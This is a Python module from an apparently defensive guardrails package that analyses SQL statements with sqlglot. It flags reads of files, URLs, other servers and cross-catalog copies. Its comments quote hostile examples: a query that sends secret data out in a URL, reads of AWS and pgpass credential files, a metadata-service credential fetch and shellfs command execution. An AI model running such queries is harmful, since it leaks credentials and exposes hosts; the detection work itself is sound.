"""What a statement reads: tables, table functions over files, URLs and other servers, and
copies across catalogs; and which file locations stay in the working data."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

from sqlglot import exp

from guardrails_core.intent.shell_registry import file_classes, issues_credential
from guardrails_core.intent.sql.dialects import EMBEDDED_DIALECTS, A, I
from guardrails_core.intent.sql.functions import (
    _check_function,
)
from guardrails_core.intent.sql.host_files import HOST_FILE_CLASSES
from guardrails_core.intent.sql.own_hosts import own_network_url, public_web_url
from guardrails_core.intent.sql.settings import embed_shell
from guardrails_core.intent.sql.statement import (
    _function_name,
    _location_kind,
    _normalise,
    _Statement,
)
from guardrails_core.locations import (
    in_fresh_temp_folder,
    in_temp_folder,
    in_working_folder,
    lexical_path,
)

_PARAMETERS = (exp.Parameter, exp.Placeholder)  # built once, not on every table


def _record_reads(statement: _Statement) -> None:
    """Every table not claimed as a target by a handler is read (CTE references excepted)."""
    for node in statement.tables:
        if id(node) in statement.claimed_tables or isinstance(node.parent, exp.UserDefinedFunction):
            continue  # a target, or the name of a routine (`WITH FUNCTION f() ...`), no read
        this = node.args.get("this")
        if isinstance(this, exp.Func):
            _table_function(statement, node, this)
            continue
        if isinstance(this, _PARAMETERS):
            continue
        if not node.args.get("db") and not node.args.get("catalog"):
            name = node.name
            if name and _normalise(statement.names.dialect, name, quoted=False) in (
                statement.cte_names
            ):
                continue
        ref = statement.table(node, A.READ)
        if ref is not None:
            statement.intents.add(I.READ)
        if _reads_a_path(node):
            statement.add(I.HOST_ACCESS, f"reads the file {node.name} directly ({node.db} format)")


# Spark's path tables: csv.`/path` reads a file by path, not a table.
_PATH_FORMATS = frozenset({"text", "csv", "json", "parquet", "orc", "avro", "binaryfile", "delta"})


def _reads_a_path(node: exp.Table) -> bool:
    return node.db.lower() in _PATH_FORMATS and _outside_workspace(node.name)


# Where every writable catalog is a database of the same account or server: a Snowflake
# database (shared and replica databases are read-only), a T-SQL database of the instance (a
# linked server takes a fourth name part, judged as another server), a Databricks Unity Catalog
# catalog of the metastore (foreign, federated and Delta Sharing catalogs are read-only).
_ONE_SERVICE_CATALOGS = frozenset({"snowflake", "tsql", "databricks"})


def cross_catalog(statement: _Statement) -> None:
    """Rows read in one catalog and written to another leave the source system (Trino, Spark)."""
    if len(statement.objects) < 2:
        return  # a copy across catalogs names at least two
    if statement.dialect_name in _ONE_SERVICE_CATALOGS:
        return
    refs = [ref for ref in statement.objects.values() if ref.catalog]
    if len(refs) < 2:
        return  # a copy across catalogs names at least two
    sources = {r.catalog.lower() for r in refs if r.catalog and r.action is A.READ}
    targets = {
        r.catalog.lower() for r in refs if r.catalog and r.action in (A.WRITE, A.CREATE, A.REPLACE)
    }
    if sources and targets and not targets <= sources:
        moved = ", ".join(sorted(targets - sources))
        statement.add(I.EXPORT, f"copies rows read in {', '.join(sorted(sources))} into {moved}")


# Table functions that fetch a web URL (DuckDB's httpfs readers, ClickHouse's url()): a constant
# URL of the own network or of a public https server is a GET that carries no data out, and
# reads what it answers. Metadata services, private addresses by number, file:// and URLs with
# credentials stay host access (own_hosts.py).
_URL_FETCHING_FUNCTIONS = frozenset(
    {
        "url",
        "read_csv",
        "read_csv_auto",
        "read_parquet",
        "read_json",
        "read_json_auto",
        "read_ndjson",
        "read_text",
        "read_blob",
        "parquet_scan",
    }
)
# Table functions that read files, URLs or other servers (DuckDB, ClickHouse, Trino, Spark).
_READING_TABLE_FUNCTIONS = _URL_FETCHING_FUNCTIONS | frozenset(
    {
        "read_files",
        "delta_scan",
        "iceberg_scan",
        "file",
        "s3",
        "s3cluster",
        "gcs",
        "hdfs",
        "azureblobstorage",
        "remote",
        "remotesecure",
        "mysql",
        "postgresql",
        "jdbc",
        "odbc",
        "glob",
        "openrowset",
        "openrowset_bulk",
        "opendatasource",
        "openquery",
    }
)


def _table_function(statement: _Statement, table: exp.Table, function: exp.Expr) -> None:
    name = _function_name(function)
    statement.intents.add(I.READ)
    for literal in _locations(function):
        if name in _READING_TABLE_FUNCTIONS:
            _read_location(statement, name, literal)
    if name in _READING_TABLE_FUNCTIONS and _computed_location(function):
        # `read_csv('http://x/?d=' || (SELECT secret ...))`: the request itself carries data out.
        statement.add(I.EXPORT, f"{name}() fetches a location built from query data")
    if name in _OTHER_SERVER_FUNCTIONS and not _fetched_without_data(name, function):
        statement.add(I.HOST_ACCESS, f"{name}() reaches another server or the host's files")
    if name in ("openrowset", "opendatasource", "openquery"):
        statement.add(I.HOST_ACCESS, f"{name.upper()} reaches an external data source")
    if name in ("executable",):
        statement.add(I.HOST_ACCESS, f"{name}() runs a program on the server")
        statement.add(I.UNKNOWN, f"{name}() runs a script whose code is not visible here")
    _check_function(statement, function)


def _locations(function: exp.Expr) -> list[str]:
    """The locations a reading function is given: its first string argument, or every string of
    a list of them (DuckDB `read_text(['~/.aws/credentials', '~/.pgpass'])`)."""
    for argument in function.iter_expressions():
        if isinstance(argument, exp.Literal) and argument.is_string:
            return [argument.this]
        if isinstance(argument, exp.Array):
            return [
                item.this
                for item in argument.expressions
                if isinstance(item, exp.Literal) and item.is_string
            ]
    return []


def _read_location(statement: _Statement, name: str, literal: str) -> None:
    statement.obj(_location_kind(literal), A.READ, literal)
    shown = name if " " in name else f"{name}()"  # a function, or a statement (BULK INSERT)
    if literal.rstrip().endswith("|"):  # DuckDB's shellfs reads the output of `command |`
        statement.add(I.HOST_ACCESS, f"{shown} runs the shell command {literal} (shellfs)")
        embed_shell(statement, literal.rstrip()[:-1])
    if (
        _outside_workspace(literal)
        and not _bucket_endpoint(name, literal)
        and not _plain_web_read(name, literal)
        and not _own_temp_file(statement, literal)
        and not _local_data_path(statement, literal)
    ):
        statement.add(I.HOST_ACCESS, f"{shown} reads {literal}, outside the working data")
    if "secrets" in file_classes(literal):
        statement.add(I.PRIVILEGE, f"{shown} reads {literal}, a file that holds credentials")
    elif issues_credential(literal):  # ClickHouse url('http://169.254.169.254/.../role')
        statement.add(I.PRIVILEGE, f"{shown} fetches a live credential from {literal}")


# ClickHouse's object-storage functions take a bucket as an https URL of the provider's endpoint
# (virtual-hosted or path style): reading it loads a bucket object, like `s3://bucket/key`. Any
# other host (a metadata service, an internal web server) stays host access.
_OBJECT_STORAGE_FUNCTIONS = frozenset({"s3", "s3cluster", "gcs", "azureblobstorage"})
_OBJECT_STORAGE_URL = re.compile(
    r"https://(?:[a-z0-9-]+\.)*(?:s3[a-z0-9.-]*\.amazonaws\.com|storage\.googleapis\.com"
    r"|[a-z0-9]+\.blob\.core\.windows\.net)/",
    re.IGNORECASE,
)


def _bucket_endpoint(name: str, location: str) -> bool:
    return name in _OBJECT_STORAGE_FUNCTIONS and bool(_OBJECT_STORAGE_URL.match(location))


def _plain_web_read(name: str, location: str) -> bool:
    return name in _URL_FETCHING_FUNCTIONS and (
        own_network_url(location) or public_web_url(location)
    )


def _fetched_without_data(name: str, function: exp.Expr) -> bool:
    """`url('http://localhost:8123/ping', 'RawBLOB', 'body String')`: one constant URL, read."""
    first = next(iter(function.iter_expressions()), None)
    return isinstance(first, exp.Literal) and first.is_string and _plain_web_read(name, first.this)


# `file` is not here: ClickHouse reads it from its user_files folder, so a relative name is the
# pipeline's own landing file (an absolute or climbing path is caught as outside the workspace).
_OTHER_SERVER_FUNCTIONS = frozenset(
    {
        "url",
        "remote",
        "remotesecure",
        "mysql",
        "postgresql",
        "jdbc",
        "odbc",
        "hdfs",
        "executable",
        "cluster",
        "clusterallreplicas",
        "sqlite",
        "mongodb",
        "redis",
        "input",
    }
)


# Absolute paths that name governed storage, not the host's disk (Unity Catalog volumes).
_GOVERNED_PATHS = ("/volumes/",)


# Hosts of cloud object stores: `https://bucket.s3.amazonaws.com/key` is bucket data, as
# `s3://bucket/key` is (AWS S3 virtual-hosted and path style, Google Cloud Storage, Azure Blob
# and Data Lake storage, Cloudflare R2).
_OBJECT_STORE_HOST = re.compile(
    r"(?:[a-z0-9.-]+\.)?(?:s3(?:[.-][a-z0-9-]+)*\.amazonaws\.com(?:\.cn)?|storage\.googleapis\.com"
    r"|[a-z0-9-]+\.(?:blob|dfs)\.core\.windows\.net|[a-z0-9-]+\.r2\.cloudflarestorage\.com)"
)


def _object_store_url(location: str) -> bool:
    try:
        parts = urlsplit(location)
    except ValueError:
        return False
    return (
        parts.scheme == "https"
        and not parts.username
        and parts.port is None
        and bool(parts.hostname)
        and _OBJECT_STORE_HOST.fullmatch(parts.hostname or "") is not None
        and ".." not in parts.path.split("/")
    )


def _own_temp_file(statement: _Statement, location: str) -> bool:
    """An embedded engine (DuckDB, SQLite) run by the script reads a file in the folder the script
    made with mktemp: the script's own data, on the script's own host."""
    return statement.dialect_name in EMBEDDED_DIALECTS and in_fresh_temp_folder(location)


def _outside_workspace(location: str) -> bool:
    """An absolute or home path, or a web URL: not a pipeline's own relative or bucket data."""
    lowered = location.lower()
    if lowered.startswith(_GOVERNED_PATHS) and ".." not in lowered.split("/"):
        return False
    if _object_store_url(lowered):
        return False
    return (
        lowered.startswith(("/", "~", "file:", "http://", "https://", "ftp://", ".."))
        or (len(lowered) > 2 and lowered[1] == ":" and lowered[2] in "\\/")
        or ".." in re.split(r"[\\/]", lowered)
    )


# Folders of the host that the file tables of rules/programs.yaml do not list (their `system`
# class holds /etc, /proc, /usr, /bin, /var/log ...): root's home, applications' state, caches,
# the system's backups, web roots, and the temporary folders themselves (`/tmp/*`: whatever any
# user left there). A folder inside one is scratch space, as the shell analyzer's `rm` of it is
# (locations.in_temp_folder): reading its files is a read of data, not of the host.
_HOST_FOLDERS = re.compile(
    r"^/(?:root|tmp|libexec|opt/[^/]+/(?:bin|etc)|var/(?:tmp|spool|mail|lib|cache|backups|www))"
    r"(?:/|$)"
)


def _local_data_path(statement: _Statement, location: str) -> bool:
    """An embedded engine (DuckDB, SQLite) reading an absolute path of data files
    (`read_parquet('/data/lake/orders/*.parquet')`): the pipeline's process reads its own data,
    as `cat /data/lake/x.csv` would, and so does a read of scratch files inside a temporary
    folder (`/tmp/scratch/events_*.parquet`); only the host's own folders and files (and `..`,
    `~`, hidden names) are host access. A server database reading a path reads the server's disk."""
    if statement.dialect_name not in EMBEDDED_DIALECTS or not location.startswith("/"):
        return False
    parts = location.split("/")
    if ".." in parts or any(part.startswith(".") for part in parts if part):
        return False
    # in a folder inside it: a file or glob at the top (`/tmp/*`) is whatever anyone left there
    scratch = in_temp_folder(location, glob=True) and "/" in location.split("/", 2)[2].strip("/")
    return (scratch or not _HOST_FOLDERS.match(location)) and HOST_FILE_CLASSES.isdisjoint(
        file_classes(location)
    )


def working_folder_file(statement: _Statement, location: str) -> bool:
    """A file an embedded engine (DuckDB, SQLite) writes by a relative path: it lands in the
    working folder of the process that runs the query, as a shell redirect's file would. A
    server database writes on its own host; absolute paths, `..` and URLs leave the folder, and
    hidden names (`.ssh/`, `.git/`, `.bashrc`) are where tools keep settings and keys, not data.
    The path is judged with its `..` resolved: `exports/../exports/x` is `exports/x`."""
    location = lexical_path(location.replace("\\", "/"))
    return (
        statement.dialect_name in EMBEDDED_DIALECTS
        and in_working_folder(location)
        and not any(part.startswith(".") and part != "." for part in re.split(r"[\\/]", location))
    )


def _computed_location(function: exp.Expr) -> bool:
    """The first argument is built at run time from query data: a column or a query, or, in a
    URL (`'https://x/v?q=' || getvariable('tok')`), any value that is not a literal or the
    clock (a variable, a parameter, a function's result): the request carries it out."""
    first = next(iter(function.iter_expressions()), None)
    if first is None or isinstance(first, exp.Literal):
        return False
    if any(isinstance(node, exp.Column | exp.Subquery | exp.Select) for node in first.walk()):
        return True
    web = any(
        isinstance(node, exp.Literal) and _WEB_LOCATION.match(str(node.this))
        for node in first.walk()
    )
    return web and any(_data_value(node) for node in first.walk())


_WEB_LOCATION = re.compile(r"(?i)^\s*(?:https?|ftp|wss?)://")
_CLOCK = (exp.CurrentDate, exp.CurrentTimestamp, exp.CurrentTime, exp.CurrentDatetime)
_SPELLING = (exp.Literal, exp.DPipe, exp.Concat, exp.Cast, exp.DataType, exp.Paren, exp.Array)


def _data_value(node: exp.Expr) -> bool:
    """A part of a computed location that is a value from data (a variable, a parameter, a
    function of them), not its spelling or the clock (`strftime(current_date, '%Y')`)."""
    if isinstance(node, _SPELLING) or node.find_ancestor(*_CLOCK) is not None:
        return False
    if isinstance(node, exp.Func):
        return node.find(*_CLOCK) is None
    return isinstance(node, exp.Parameter | exp.Placeholder | exp.SessionParameter)
